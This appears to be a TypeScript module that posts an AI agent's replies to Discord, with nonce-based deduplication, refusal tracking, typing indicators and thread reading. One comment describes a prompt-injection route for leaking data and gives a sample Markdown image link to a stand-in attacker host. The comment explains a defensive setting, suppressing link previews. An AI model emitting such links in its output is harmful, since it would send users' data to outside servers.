import { createHash } from 'node:crypto';
import { discordConfigOf } from './config.js';
import { ChannelType, MessageFlags, MessageType, Routes, type APIChannel, type APIMessage, type RESTPostAPIChannelMessageJSONBody } from 'discord-api-types/v10';
import type { REST } from '@discordjs/rest';
import type { ReplyPort, ThreadMessage } from '../../src/core/reply-port.js';
import type { ReplyTarget } from '../../src/core/message.js';
import type { ReplyPortDeps } from '../../src/core/platform-context.js';
import { splitMarkdown } from '../../src/render/split-markdown.js';
import { discordMarkdown, showOnDiscord } from './markdown.js';
import { unmaskOutsideFences } from '../../src/render/masked-links.js';
import { errorFields } from '../../src/logger.js';
import { toPlatformError } from './errors.js';
import { feedbackRow } from './feedback/buttons.js';
import { createRest } from './rest.js';
import { TypingKeeper } from './typing.js';
import { oncePer } from '../../src/core/once-per.js';
import { PlatformError } from '../../src/core/errors.js';
import { GonePlaces } from './gone-places.js';

/** Discord refuses longer messages (400, code 50035). */
export const DISCORD_MAX_CHARS = 2000;
const WARNING_EMOJI = '⚠️';
/** Discord's refusal of a reply in a channel where the bot may not read the history. */
const CANNOT_REPLY_WITHOUT_HISTORY = '160002';
/** How often a channel where the bot may not react is named again in the log. */
const REACTION_REFUSED_WARN_MS = 10 * 60_000;
/** Typing refused with these is not sent again in that channel for a while (see TypingKeeper). */
const REFUSED_FOR_GOOD: ReadonlySet<string> = new Set(['refused', 'forbidden', 'unauthorized']);
/**
 * Refusals of every post in a channel (not of one message's content): a failure notice sent there
 * right after would be refused too. Missing Access and Unknown Channel refuse reactions as well.
 */
const PLACE_REFUSALS: ReadonlySet<string> = new Set(['10003', '50001', '50007', '50013', '50083']);
const NO_ACCESS: ReadonlySet<string> = new Set(['10003', '50001']);
/** Discord's code for a channel or thread that does not exist (deleted). */
const UNKNOWN_CHANNEL = '10003';
/** The start of Discord's snowflake clock (2015-01-01). */
const DISCORD_EPOCH_MS = 1_420_070_400_000;
/** How long a channel's refusal stands for its notices and reactions (a fix in the channel settings takes effect after). */
const PLACE_REFUSED_FOR_MS = 60_000;
/** Pages of 100 read after the question when looking for a chunk a crashed worker may have posted. */
const POSTED_LOOKUP_PAGES = 5;

/** The part of `@discordjs/rest` the port uses, so tests can pass a fake. */
export type RestLike = Pick<REST, 'get' | 'post' | 'put'>;

export interface DiscordReplyPortOptions {
  /** Defaults to a REST client built from the Discord config. */
  rest?: RestLike;
  /** @defaultValue 8000 (a typing trigger lasts about 10 s) */
  typingRefreshMs?: number;
}

/**
 * Discord's `enforce_nonce` makes Discord itself drop a second create with the same nonce
 * for a few minutes, so a retried post soon after a crash cannot show up twice. At most 25
 * chars. A later retry (the workers were down longer) looks for the post first: `findPosted`.
 */
function nonceFor(target: ReplyTarget, part: string): string {
  return createHash('sha256').update(`${target.channelId}:${target.messageId}:${part}`).digest('base64url').slice(0, 25);
}

/**
 * Posts replies with the REST client alone (no gateway). Every message carries
 * `allowed_mentions: { parse: [] }`, so agent output never pings anyone, and SUPPRESS_EMBEDS,
 * so none of its links is fetched for a preview; the first chunk
 * replies to the user's message (and pings them only when DISCORD_REPLY_PING is on).
 */
export function createDiscordReplyPort(deps: ReplyPortDeps, options: DiscordReplyPortOptions = {}): ReplyPort {
  const discord = discordConfigOf(deps.config);
  if (!discord) throw new Error('DISCORD_TOKEN is missing: the Discord reply port needs the bot token');
  const rest: RestLike = options.rest ?? createRest(discord);
  const logger = deps.logger.child({ platform: 'discord' });
  const firstReactionRefusal = oncePer(REACTION_REFUSED_WARN_MS);
  const gone = new GonePlaces(deps.redis, deps.config.queue.prefix, { logger });
  const typing = new TypingKeeper(
    async (channelId) => {
      await rest.post(Routes.channelTyping(channelId));
    },
    {
      refreshMs: options.typingRefreshMs,
      // A stop can be missed (the job is retried elsewhere): never type much longer than a chat call may take.
      maxMs: (deps.config.agent?.timeoutMs ?? 120_000) + 30_000,
      refused: (err) => REFUSED_FOR_GOOD.has(toPlatformError(err, 'typing').kind),
    },
  );

  async function create(
    target: ReplyTarget,
    content: string,
    replyTo: boolean,
    nonce: string,
    components?: RESTPostAPIChannelMessageJSONBody['components'],
  ): Promise<void> {
    const body: RESTPostAPIChannelMessageJSONBody = {
      content,
      allowed_mentions: { parse: [], replied_user: discord!.replyPing },
      // No link previews: Discord's servers would fetch every URL in the text at once, with no
      // click, so a reply written by a prompt injection could send what the agent saw to any
      // server (`![](https://attacker.example/?q=…)`). Links stay clickable.
      flags: MessageFlags.SuppressEmbeds,
      nonce,
      enforce_nonce: true,
      ...(components && components.length > 0 ? { components } : {}),
    };
    if (replyTo) {
      body.message_reference = { message_id: target.messageId, channel_id: target.channelId, fail_if_not_exists: false };
    }
    try {
      await rest.post(Routes.channelMessages(target.channelId), { body });
      refusedPlaces.delete(target.channelId);
    } catch (err) {
      const refused = toPlatformError(err, 'message create');
      if (refused.code && PLACE_REFUSALS.has(refused.code)) refusedPlaces.set(target.channelId, { error: refused, until: Date.now() + PLACE_REFUSED_FOR_MS, at: Date.now() });
      // Deleted for good (Discord never reuses the ID): every worker stops calling the agent for it.
      if (refused.code === UNKNOWN_CHANNEL) {
        void gone.mark([target.channelId], 'was deleted').catch((e: unknown) => logger.debug({ ...errorFields(e) }, 'could not record a deleted channel'));
      }
      if (!body.message_reference || refused.code !== CANNOT_REPLY_WITHOUT_HISTORY) throw refused;
      // A channel may deny Read Message History: the answer still goes out, as a plain message.
      delete body.message_reference;
      try {
        await rest.post(Routes.channelMessages(target.channelId), { body });
      } catch (again) {
        throw toPlatformError(again, 'message create');
      }
    }
  }

  const key = (target: ReplyTarget) => `${target.channelId}:${target.messageId}`;

  /**
   * Channels that just refused a post, by ID. A failure notice or a ⚠️ there is not sent: Discord
   * would refuse it as well, and every refused request counts toward the 10,000 in 10 minutes
   * after which Discord bars the IP.
   */
  const refusedPlaces = new Map<string, { error: PlatformError; until: number; at?: number }>();
  function refusalHeld(channelId: string): PlatformError | undefined {
    const held = refusedPlaces.get(channelId);
    if (held && Date.now() < held.until) return held.error;
    refusedPlaces.delete(channelId);
    return undefined;
  }

  // The bot's own user ID, to know its posts when reading a channel back.
  let ownId: Promise<string> | undefined;
  const botId = () => {
    ownId ??= (rest.get(Routes.user('@me')) as Promise<{ id: string }>).then((u) => u.id);
    ownId.catch(() => (ownId = undefined));
    return ownId;
  };

  /**
   * Whether a worker that died after Discord took this chunk already posted it. Discord keeps
   * no nonce on a message, so the post is known by what it is: the bot's, after the question,
   * with the same content (Discord trims it), and for the first chunk a reply to the question. Read forward from
   * the question, at most 500 messages; when the read fails or ends without it, the nonce is
   * what is left (a duplicate only past both). Content read back goes through the worker's
   * redaction as it is now (`redact`): a credential added since the earlier post is redacted in
   * this attempt's chunk, and would otherwise make the same post look like another.
   */
  async function findPosted(target: ReplyTarget, content: string, index: number, redact?: (text: string) => string): Promise<boolean> {
    const same = (posted: string) => posted.trim() === content.trim() || (redact !== undefined && redact(posted).trim() === content.trim());
    try {
      const own = await botId();
      let after = target.messageId;
      for (let page = 0; page < POSTED_LOOKUP_PAGES; page++) {
        const query = new URLSearchParams({ after, limit: '100' });
        const messages = (await rest.get(Routes.channelMessages(target.channelId), { query })) as APIMessage[];
        const found = messages.some(
          (m) => m.author.id === own && same(m.content) && (index > 0 || m.message_reference?.message_id === target.messageId || !m.message_reference),
        );
        if (found) return true;
        if (messages.length < 100) return false;
        // Newest first: the next page starts after the newest of this one.
        after = messages.reduce((max, m) => (BigInt(m.id) > BigInt(max) ? m.id : max), after);
      }
    } catch (err) {
      logger.warn({ ...errorFields(toPlatformError(err, 'message lookup')), channelId: target.channelId }, 'could not read the channel back for a reply a stopped worker may have posted; relying on its nonce');
    }
    return false;
  }

  return {
    platform: 'discord',

    render(markdown: string): string[] {
      return splitMarkdown(discordMarkdown(markdown, DISCORD_MAX_CHARS), DISCORD_MAX_CHARS).filter((chunk) => chunk.trim().length > 0);
    },

    async postChunk(target, chunk, index, info) {
      // Several bridge messages can answer one Discord message ("Ask the agent" by two people):
      // their nonces differ by `replyKey`, so Discord keeps their replies apart.
      const part = target.replyKey ? `${target.replyKey}:c${index}` : `c${index}`;
      const last = info !== undefined && index === info.total - 1;
      // `instanceId` is not part of ChunkInfo yet: read it when the worker adds it.
      const instanceId = (info as { instanceId?: string } | undefined)?.instanceId;
      const components = last ? feedbackRow(info.agentMessageId, instanceId) : undefined;
      const content = chunk.slice(0, DISCORD_MAX_CHARS);
      if (info?.mayExist && (await findPosted(target, content, index, info.redact))) return;
      await create(target, content, index === 0, nonceFor(target, part), components);
    },

    async postNotice(target, text, info) {
      const held = refusalHeld(target.channelId);
      // Nobody is left there to tell: the worker's give-up line already says the channel is gone.
      if (held?.code === UNKNOWN_CHANNEL || (await gone.why(target.channelId).catch(() => undefined))) {
        return void logger.debug({ channelId: target.channelId }, 'no notice in a channel that is gone');
      }
      if (held) throw held;
      // Plain words, but Discord renders them as Markdown, and some quote others (the agent
      // service's reason, a file's name): a misleading masked link there is unmasked too.
      const shown = unmaskOutsideFences(text, showOnDiscord);
      const content = shown.length > DISCORD_MAX_CHARS ? `${shown.slice(0, DISCORD_MAX_CHARS - 1)}…` : shown;
      // A give-up notice a stopped worker may have posted: known as a chunk 0 is (a reply to the
      // question, with this content), since its nonce holds for a few minutes only.
      if (info?.mayExist && (await findPosted(target, content, 0))) return;
      await create(target, content, true, nonceFor(target, `n:${content}`));
    },

    /**
     * A channel or thread known gone (deleted, in a server the bot was removed from, or a locked
     * thread), or one that refused this process's last post there within a minute: the answer
     * could not be posted, so the billed call is not made. A Redis that does not answer lets the
     * message go on (the post then says).
     */
    async ready(target) {
      const known = await gone.why(target.channelId).catch(() => undefined);
      if (known !== undefined) {
        const refused = new PlatformError('discord', 'refused', `Discord channel ${target.channelId} ${known.why}: its answer could not be posted, so the agent was not asked`, {
          code: known.code,
        });
        // Its give-up notice and ⚠️ would be refused as well: not sent (see refusalHeld).
        refusedPlaces.set(target.channelId, { error: refused, until: Date.now() + PLACE_REFUSED_FOR_MS });
        throw refused;
      }
      // Discord refused a post there under a minute ago (Missing Access, Missing Permissions) and
      // this message was sent before that: it waited behind the refused one, and would be billed
      // and refused the same way. One sent since may find the place fixed, and goes on.
      const held = refusedPlaces.get(target.channelId);
      if (held?.at !== undefined && Date.now() < held.until && sentAt(target.messageId) < held.at) {
        throw new PlatformError('discord', 'refused', `${held.error.message}, after this message was sent: the agent was not asked for an answer there`, {
          ...(held.error.status !== undefined ? { status: held.error.status } : {}),
          ...(held.error.code !== undefined ? { code: held.error.code } : {}),
        });
      }
    },

    async startWorking(target) {
      try {
        await typing.start(key(target), target.channelId);
      } catch (err) {
        logger.debug({ ...errorFields(toPlatformError(err, 'typing')), channelId: target.channelId }, 'typing indicator failed');
      }
    },

    async stopWorking(target, outcome) {
      typing.stop(key(target));
      if (outcome !== 'failed') return;
      const held = refusalHeld(target.channelId);
      if (held?.code && NO_ACCESS.has(held.code)) return void logger.debug({ channelId: target.channelId }, 'no warning reaction where the bot has no access');
      try {
        await rest.put(Routes.channelMessageOwnReaction(target.channelId, target.messageId, encodeURIComponent(WARNING_EMOJI)));
      } catch (err) {
        const refused = toPlatformError(err, 'reaction');
        // Refused for good (no permission to react there): under the `reaction` error policy the
        // user then sees no sign of the failure, so the admin is told what to grant, once in a while.
        if (refused.kind === 'refused' && firstReactionRefusal(target.channelId)) {
          logger.warn(
            { ...errorFields(refused), channelId: target.channelId },
            'could not mark a failed message with ⚠️: give the bot Add Reactions and Read Message History in this channel, or choose `/agent set errors reply` there',
          );
        } else {
          logger.debug({ ...errorFields(refused) }, 'warning reaction failed');
        }
      }
    },

    // The gone places' subscription (opened by the first `ready`).
    close: () => gone.close(),

    async fetchThread(target, limit): Promise<ThreadMessage[]> {
      if (!target.threadId || limit <= 0) return [];
      const pageSize = Math.min(100, Math.floor(limit));
      const query = new URLSearchParams({ before: target.messageId, limit: String(pageSize) });
      let messages: APIMessage[];
      try {
        messages = (await rest.get(Routes.channelMessages(target.threadId), { query })) as APIMessage[];
      } catch (err) {
        throw toPlatformError(err, 'thread fetch');
      }
      const earlier = messages.filter((m) => m.id !== target.messageId).reverse();
      // A full page may not reach back to the thread's start, where the message it was started
      // from (often the question the thread is about) sits: that one is read on its own and put
      // first, with the place of the messages between marked.
      const reachesStart = messages.length < pageSize || earlier.some((m) => m.type === MessageType.ThreadStarterMessage || m.id === target.threadId);
      const starter = reachesStart ? undefined : await fetchStarter(rest, target.threadId, logger);
      const lines = earlier.flatMap(threadLine);
      return starter ? [...threadLine(starter), { author: '', text: '', isBot: false, gap: true }, ...lines.slice(-(pageSize - 1))] : lines;
    },
  };
}

/** When a Discord message was sent, from its snowflake ID (ms); 0 for an ID that is not one. */
function sentAt(messageId: string): number {
  try {
    return Number(BigInt(messageId) >> 22n) + DISCORD_EPOCH_MS;
  } catch {
    return 0;
  }
}

/** A thread's message as a transcript line, or none when it shows nothing. */
function threadLine(m: APIMessage): ThreadMessage[] {
  // A thread started from a message opens with a THREAD_STARTER_MESSAGE (type 21) of no content:
  // the message it was started from is its `referenced_message` (null when deleted).
  const said = m.type === MessageType.ThreadStarterMessage ? m.referenced_message : m;
  const text = said ? said.content || (said.attachments?.length ? '[attachment]' : '') : '';
  return said && text ? [{ author: said.author.global_name ?? said.author.username, text, isBot: said.author.bot === true }] : [];
}

/**
 * The message a thread was started from, read as discord.js's `fetchStarterMessage` does: it has
 * the thread's ID and lives in the parent channel (in the thread itself for a forum or media
 * post). Undefined for a thread started from nothing, or when either read is refused.
 */
async function fetchStarter(rest: RestLike, threadId: string, logger: ReplyPortDeps['logger']): Promise<APIMessage | undefined> {
  try {
    const thread = (await rest.get(Routes.channel(threadId))) as APIChannel & { parent_id?: string | null };
    const parent = thread.parent_id ? ((await rest.get(Routes.channel(thread.parent_id))) as APIChannel) : undefined;
    const home = !parent || parent.type === ChannelType.GuildForum || parent.type === ChannelType.GuildMedia ? threadId : parent.id;
    return (await rest.get(Routes.channelMessage(home, threadId))) as APIMessage;
  } catch (err) {
    const e = toPlatformError(err, 'thread fetch');
    if (e.status !== 404) logger.debug({ ...errorFields(e) }, 'could not read the message the thread was started from');
    return undefined;
  }
}
